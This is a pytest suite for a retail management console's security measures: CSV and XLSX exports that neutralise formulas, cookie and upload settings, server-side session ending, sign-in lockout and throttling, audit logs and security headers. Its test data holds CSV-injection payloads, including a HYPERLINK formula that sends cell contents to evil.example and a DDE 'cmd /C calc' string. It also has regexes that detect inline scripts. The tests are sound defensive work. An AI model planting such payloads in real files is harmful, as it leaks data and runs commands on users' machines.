"""Console security (issue 12): exports without formulas, cookie and upload settings, sessions ended on
the server, sign-in lockout and throttling, audit of sign-ins and exports, security headers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from central import create_app
from central.cli import cli
from central.services import audit, promotions, signin

from .conftest import PASSWORD, apply_events, login, sale

# the PostgreSQL run (--backend=postgresql) keeps this file: it passes there (docs/scale.md)
pytestmark = pytest.mark.postgresql

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _actions(db, prefix):
    return [r["action"] for r in audit.history(db, limit=500) if r["action"].startswith(prefix)][::-1]


def _evil_customers(db):
    db.conn.execute("UPDATE customers SET name = ?, email = '@SUM(1+1)' WHERE id = 'c1'", (EVIL,))
    db.conn.execute("UPDATE customers SET name = ?, balance = -1250 WHERE id = 'c2'", ("\t-cmd|' /C calc'!A0",))


def test_csv_export_neutralizes_formulas_and_keeps_numbers(client, db, shoppers):
    _evil_customers(db)
    login(client, "marketer")
    response = client.get("/customers/export.csv")
    assert response.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))}
    assert rows["c1"]["name"] == "'" + EVIL and rows["c1"]["email"] == "'@SUM(1+1)"
    assert rows["c2"]["name"].startswith("'\t-cmd")
    assert rows["c1"]["phone"] == "'+79120000001"  # a phone "+7..." would be read as a formula too
    assert rows["c2"]["balance"] == "-12.50"  # a negative amount is a number, not text
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == row["balance"]


def test_xlsx_export_writes_text_as_strings_never_formulas(client, db, shoppers):
    _evil_customers(db)
    login(client, "marketer")
    from .test_pages import export_xlsx

    sheet = load_workbook(io.BytesIO(export_xlsx(client, "/customers/export.xlsx"))).worksheets[0]
    header = [c.value for c in sheet[1]]
    rows = {r[0].value: dict(zip(header, r, strict=False)) for r in sheet.iter_rows(min_row=2)}
    name = rows["c1"]["name"]
    assert name.data_type == "s" and name.value == "'" + EVIL
    assert rows["c1"]["email"].value == "'@SUM(1+1)"
    balance = rows["c2"]["balance"]
    assert balance.data_type == "n" and balance.value == -12.5
    assert all(c.data_type != "f" for row in rows.values() for c in row.values())


def test_an_export_imports_back_without_its_quotes(db, people, shoppers):
    from central.services import exports, imports

    assert exports.unquote(exports.neutral("+79120000001")) == "+79120000001"
    assert exports.unquote("'plain") == "'plain"  # a quote before ordinary text is the text's own
    table = imports.read_table(b"phone;name\n'+79125550000;'=1+2\n", "x.csv")
    assert table.rows[0] == ["+79125550000", "=1+2"]


def test_exports_are_audited(client, db, shoppers):
    login(client, "viewer")
    client.get("/transactions/export.csv?type=purchase").close()
    from .test_pages import export_xlsx

    export_xlsx(client, "/customers/export.xlsx?q=Иван")
    rows = [r for r in audit.history(db, limit=50) if r["action"].startswith("export.")]
    assert [(r["action"], r["username"], r["after"]["format"]) for r in rows] == [
        ("export.customers", "viewer", "xlsx"),
        ("export.transactions", "viewer", "csv"),
    ]
    assert rows[1]["after"]["query"] == "type=purchase"


def test_the_upload_limit_and_the_cookie_settings_take_effect(app, client, db_file):
    assert app.config["MAX_CONTENT_LENGTH"] == 64 * 1024 * 1024
    login(client, "marketer")
    boundary = "b0undary"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n'
            f"Content-Type: text/csv\r\n\r\nphone\n"
        ).encode()
        + b"+79120000000\n" * (70 * 1024 * 1024 // 13)
        + (f"\r\n--{boundary}--\r\n").encode()
    )
    response = client.post("/imports/", data=body, content_type=f"multipart/form-data; boundary={boundary}")
    assert response.status_code == 413  # 70 MiB: refused before it is read
    cookie = login(app.test_client(), "admin").headers["Set-Cookie"]
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie and "Secure" not in cookie
    secure = create_app(
        {
            "TESTING": True,
            "DATABASE": db_file,
            "WTF_CSRF_ENABLED": False,
            "SECRET_KEY": "t",
            "SESSION_COOKIE_SECURE": True,
            "SESSION_COOKIE_SAMESITE": "Strict",
        }
    )
    cookie = login(secure.test_client(), "admin").headers["Set-Cookie"]
    assert "Secure" in cookie and "SameSite=Strict" in cookie


def test_uploaded_files_are_deleted_after_import_failure_and_when_abandoned(app, client, db):
    from central.config import data_folder

    from .test_imports import CSV, _wait

    folder = Path(data_folder(app.config, app.instance_path)) / "imports"  # beside the SQLite file
    login(client, "marketer")

    def upload(data, name="people.csv"):
        response = client.post("/imports/", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data")
        return response.headers["Location"]

    job = upload(CSV)
    assert _wait(client, job, "checked")["state"] == "checked"
    assert len(list(folder.iterdir())) == 1  # kept for the import
    client.post(job + "/apply", data={"mode": "good"})
    assert _wait(client, job, "done")["state"] == "done"
    assert list(folder.iterdir()) == []
    broken = upload(b"PK\x03\x04 not a workbook", "broken.xlsx")
    assert _wait(client, broken, "checked")["state"] == "failed"
    assert list(folder.iterdir()) == []
    abandoned = upload("phone;name\n+79125550001;Нина\n".encode())  # (CSV's good rows are in by now)
    assert _wait(client, abandoned, "checked")["state"] == "checked"
    assert len(list(folder.iterdir())) == 1
    db.conn.execute(
        "UPDATE jobs SET updated_at = '2000-01-01T00:00:00+00:00' WHERE id = ?", (abandoned.rsplit("/", 1)[1],)
    )
    client.get("/imports/")  # older than IMPORT_KEEP_HOURS: swept
    assert list(folder.iterdir()) == []


def test_a_cookie_saved_before_sign_out_no_longer_works(app, db):
    browser = app.test_client()
    login(browser, "admin")
    saved = browser.get_cookie("session").value
    assert browser.get("/").status_code == 200
    browser.post("/logout")
    thief = app.test_client()
    thief.set_cookie("session", saved)
    assert thief.get("/").status_code == 302  # back to the sign-in page
    assert thief.get("/api/v1/stores/status").status_code == 401


def test_signing_in_again_ends_the_browsers_previous_session(app, db):
    """A new sign-in gets a new session id, and the one the browser had ends on the server: a copy of the first
    user's cookie (a shared till computer, another user signing in over it) no longer works."""
    browser = app.test_client()
    login(browser, "admin")
    first = browser.get_cookie("session").value
    login(browser, "viewer")
    assert browser.get("/users").status_code == 403  # the viewer now
    thief = app.test_client()
    thief.set_cookie("session", first)
    assert thief.get("/").status_code == 302
    assert _actions(db, "auth.") == ["auth.login", "auth.login", "auth.logout"]  # the admin's, once the viewer is in


def test_sign_ins_failures_lockouts_and_sign_outs_are_audited(app, db):
    client = app.test_client()
    login(client, "admin", "wrong password")
    login(client, "nobody", "whatever")
    login(client, "admin")
    client.post("/logout")
    rows = [r for r in audit.history(db, limit=50) if r["action"].startswith("auth.")][::-1]
    assert [(r["action"], r["username"]) for r in rows] == [
        ("auth.failed", "admin"),
        ("auth.failed", "nobody"),
        ("auth.login", "admin"),
        ("auth.logout", "admin"),
    ]
    assert rows[0]["after"]["address"] == "127.0.0.1" and "password" not in str(rows[0]["after"])


def _page(response):
    """The page without its form's CSRF token (which differs each time)."""
    import re

    return re.sub(r'name="csrf_token" value="[^"]*"', "", response.get_data(as_text=True))


def _from(client, address, username, password=PASSWORD):
    return client.post(
        "/login", data={"username": username, "password": password}, environ_base={"REMOTE_ADDR": address}
    )


def test_a_lockout_looks_like_a_wrong_password_holds_one_address_and_ends_by_itself(app, db):
    client = app.test_client()
    wrong = _page(_from(client, "10.0.0.66", "admin", "guess"))
    for _ in range(9):
        _from(client, "10.0.0.66", "admin", "guess")
    assert _actions(db, "auth.lockout") == ["auth.lockout"]
    locked = _from(client, "10.0.0.66", "admin")  # the right password, from the attacker's address
    unknown = _from(client, "10.0.0.66", "no-such-user", "guess")
    assert locked.status_code == unknown.status_code == 422
    assert _page(locked) == _page(unknown).replace("no-such-user", "admin") == wrong  # no user enumeration
    # the administrator at their own desk is not locked out
    assert _from(app.test_client(), "10.0.0.5", "admin").status_code == 302
    # and the lock ends when its window passes
    db.conn.execute("UPDATE login_failures SET at = '2000-01-01T00:00:00+00:00'")
    assert _from(client, "10.0.0.66", "admin").status_code == 302


def test_many_failures_from_one_address_are_throttled(db_file, db, people):
    app = create_app(
        {"TESTING": True, "DATABASE": db_file, "WTF_CSRF_ENABLED": False, "SECRET_KEY": "t", "LOGIN_ADDRESS_LIMIT": 5}
    )
    client = app.test_client()
    for i in range(5):
        assert _from(client, "10.0.0.77", f"user{i}", "guess").status_code == 422
    throttled = _from(client, "10.0.0.77", "viewer")
    assert throttled.status_code == 429 and "Слишком много" in throttled.get_data(as_text=True)
    assert _from(client, "10.0.0.77", "viewer").status_code == 429  # recorded once, not once per attempt
    assert _from(client, "10.0.0.78", "viewer").status_code == 302
    assert _actions(db, "auth.throttled") == ["auth.throttled"]


def test_a_new_password_ends_a_lockout(app, db, people):
    from central.services import users
    from central.services.access import SYSTEM

    client = app.test_client()
    for _ in range(10):
        _from(client, "10.0.0.9", "viewer", "guess")
    users.set_password(db, SYSTEM, people["viewer"].id, "a brand new one")
    assert _from(client, "10.0.0.9", "viewer", "a brand new one").status_code == 302


def test_sessions_expire_on_the_server(app, db):
    client = app.test_client()
    login(client, "admin")
    db.conn.execute("UPDATE console_sessions SET expires_at = '2000-01-01T00:00:00+00:00'")
    assert client.get("/").status_code == 302


def test_security_headers_on_every_response(app, client):
    login(client, "admin")
    for url in ("/", "/login", "/customers/", "/static/console.js", "/api/v1/stores/status", "/health"):
        response = client.get(url)
        response.close()  # the static file's handle
        headers = response.headers
        csp = headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
        assert "frame-ancestors 'none'" in csp, url
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"


def test_templates_have_no_inline_scripts():
    import re

    folder = Path(__file__).parents[2] / "central" / "templates"
    for path in folder.rglob("*.html"):
        text = path.read_text()
        assert not re.search(r"<script(?![^>]*\bsrc=)", text), path
        assert not re.search(r"\son[a-z]+\s*=", text), path
        assert "javascript:" not in text, path


def test_command_line_changes_are_audited(db_file, db, tmp_path):
    runner = CliRunner()
    assert runner.invoke(cli, ["stores", "add", "S9", "--name", "Arbat", "--db", db_file]).exit_code == 0
    assert runner.invoke(cli, ["stores", "token", "S9", "--db", db_file]).exit_code == 0
    rules = Path(__file__).parents[2] / "docs" / "examples" / "rules.json"
    result = runner.invoke(cli, ["rules", "publish", str(rules), "--store", "S9", "--db", db_file])
    assert result.exit_code == 0, result.output
    assert (
        runner.invoke(
            cli, ["users", "add", "olga", "--role", "viewer", "--password", "long enough", "--db", db_file]
        ).exit_code
        == 0
    )
    assert runner.invoke(cli, ["users", "passwd", "olga", "--password", "longer still", "--db", db_file]).exit_code == 0
    rows = audit.history(db, limit=20)[::-1]
    actions = [r["action"] for r in rows][-5:]
    assert actions == ["store.add", "store.token", "rules.publish", "user.add", "user.password"]
    assert rows[-5]["after"]["via"] == "cli" and rows[-5]["username"] == "system"
    assert "token" not in {k for r in rows for k in (r["after"] or {})}  # enrollment tokens are never logged


def test_the_sign_in_service_keeps_only_hashes(db, people):
    user, token = signin.sign_in(db, "admin", PASSWORD, "10.1.1.1", hours=1)
    assert user["username"] == "admin"
    assert signin.session_valid(db, token, user["id"])
    assert db.count("console_sessions", "id_hash = ?", (token,)) == 0
    signin.sign_out(db, token, None, "10.1.1.1")
    assert not signin.session_valid(db, token, user["id"])


def test_behind_a_trusted_proxy_the_forwarded_address_counts(db_file, db, people):
    import pytest

    app = create_app(
        {"TESTING": True, "DATABASE": db_file, "WTF_CSRF_ENABLED": False, "SECRET_KEY": "t", "TRUSTED_PROXIES": 1}
    )
    client = app.test_client()
    client.post(
        "/login",
        data={"username": "admin", "password": "guess"},
        headers={"X-Forwarded-For": "203.0.113.7"},
        environ_base={"REMOTE_ADDR": "10.0.0.1"},
    )
    [row] = [r for r in audit.history(db, limit=10) if r["action"] == "auth.failed"]
    assert row["after"]["address"] == "203.0.113.7"
    for wrong in ({"TRUSTED_PROXIES": -1}, {"LOGIN_MAX_FAILURES": 0}, {"SESSION_COOKIE_SAMESITE": "None"}):
        with pytest.raises(ValueError, match=next(iter(wrong))):
            create_app({"DATABASE": db_file, **wrong})


def test_report_and_promo_code_exports_neutralize_formulas_too(client, db, people, agents, shoppers):
    """A till's category name and an uploaded promo code reach the pivot's and the code list's CSV and XLSX:
    they were written as they were, so a spreadsheet ran "=HYPERLINK(...)" (only the customer and transaction
    exports went through exports.cell)."""
    apply_events(db, sale(agents["S1"], "c1", [("SKU-9", EVIL, 1_000)]))
    promotions.create_code_list(db, people["admin"], "UP", upload=f"code\n{EVIL}\n@SUM(1+1)\n")
    login(client, "admin")
    pivot = {"rows": "category", "measures": "sales", "period": "last_365"}
    text = client.get("/api/v1/reports/pivot", query_string={**pivot, "format": "csv"}).get_data(as_text=True)
    assert "'" + EVIL.replace('"', '""') in text and '"' + EVIL[:5] not in text
    book = client.get("/api/v1/reports/pivot", query_string={**pivot, "format": "xlsx"}).get_data()
    cells = [c for row in load_workbook(io.BytesIO(book)).worksheets[0].iter_rows() for c in row]
    assert "'" + EVIL in [c.value for c in cells] and all(c.data_type != "f" for c in cells)
    text = client.get("/promotions/codes/UP/export.csv").get_data(as_text=True)
    assert "'@SUM(1+1)" in text and "\"'=HYPERLINK(" in text  # the upload's first column: up to the comma
    book = client.get("/promotions/codes/UP/export.xlsx").get_data()
    cells = [c for row in load_workbook(io.BytesIO(book)).worksheets[0].iter_rows() for c in row]
    assert "'@SUM(1+1)" in [c.value for c in cells] and all(c.data_type != "f" for c in cells)
